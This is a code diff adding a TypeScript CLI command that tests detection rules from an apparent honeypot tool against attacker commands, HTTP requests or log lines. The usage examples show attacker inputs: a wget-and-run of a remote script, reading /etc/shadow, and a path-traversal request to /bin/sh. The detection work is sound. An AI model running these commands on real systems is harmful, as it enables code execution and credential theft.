@@ -1,0 +1,52 @@
+import * as Args from '@oclif/core/args'
+
+import type {RuleTestResult} from '../../ttp/rule-test.js'
+
+import {DecnetCommand} from '../../cli/decnet-command.js'
+import {rulesDirFlag} from '../../cli/rules-flags.js'
+import {Matcher} from '../../ttp/matcher.js'
+import {chooseCatalog} from '../../ttp/catalog-store.js'
+import {loadCheckedRules} from '../../ttp/rule-listing.js'
+import {formatRuleTest, testRules} from '../../ttp/rule-test.js'
+
+/** `decnet rules test INPUT`: which rules fire on a command or a DECNET log line. */
+export default class RulesTest extends DecnetCommand {
+  static override args = {
+    input: Args.string({description: 'A command as an attacker typed it, an HTTP request (GET /path HTTP/1.1, then optional header lines), or a whole DECNET log line (<PRI>1 TIMESTAMP ...); - reads it from standard input.', required: true}),
+  }
+
+  static override description = `Runs the active rules (the shipped pack and --rules-dir) over one input and prints the rules that fire, their techniques with names and tactics from the ATT&CK catalog in use, and the evidence each would store. An HTTP request is read as the http rules read a request event: its request line, then header lines (Name: value), then a blank line and the body. A whole DECNET log line is read as the ttp worker reads a stored one (its command found in its fields or message, its HTTP request in a request event). Nothing is written.`
+
+  static override enableJsonFlag = true
+  static override examples = [
+    `<%= config.bin %> <%= command.id %> 'cd /tmp; wget http://203.0.113.9/x.sh; sh x.sh'`,
+    `<%= config.bin %> <%= command.id %> '<134>1 2026-11-26T13:32:51Z decky-01 ssh - command [relay@55555 src_ip="203.0.113.7" command="cat /etc/shadow"]' --json`,
+    `<%= config.bin %> <%= command.id %> 'GET /cgi-bin/.%2e/.%2e/.%2e/bin/sh HTTP/1.1'`,
+    'tail -n 1 /var/log/decnet.log | <%= config.bin %> <%= command.id %> -',
+  ]
+
+  static override flags = {'rules-dir': rulesDirFlag}
+  static override summary = 'Show which rules fire on a command, an HTTP request or a DECNET log line.'
+
+  async run(): Promise<RuleTestResult> {
+    const {args, flags} = await this.parse(RulesTest)
+    const input = args.input === '-' ? await readStdin() : args.input
+    const {catalog, set} = await loadCheckedRules(chooseCatalog(this.config.dataDir).path, {operatorDir: flags['rules-dir']})
+    const result = testRules(input, new Matcher(set.rules, {attackVersion: set.attackVersion}), catalog)
+    if (!this.jsonEnabled()) process.stdout.write(formatRuleTest(result))
+    return result
+  }
+}
+
+/** Standard input up to 64 KiB (a DECNET line is never longer), without its final newline. */
+async function readStdin(): Promise<string> {
+  const chunks: Buffer[] = []
+  let size = 0
+  for await (const chunk of process.stdin as AsyncIterable<Buffer>) {
+    chunks.push(chunk)
+    size += chunk.length
+    if (size > 64 * 1024) break
+  }
+
+  return Buffer.concat(chunks).subarray(0, 64 * 1024).toString('utf8').replace(/\r?\n$/, '')
+}
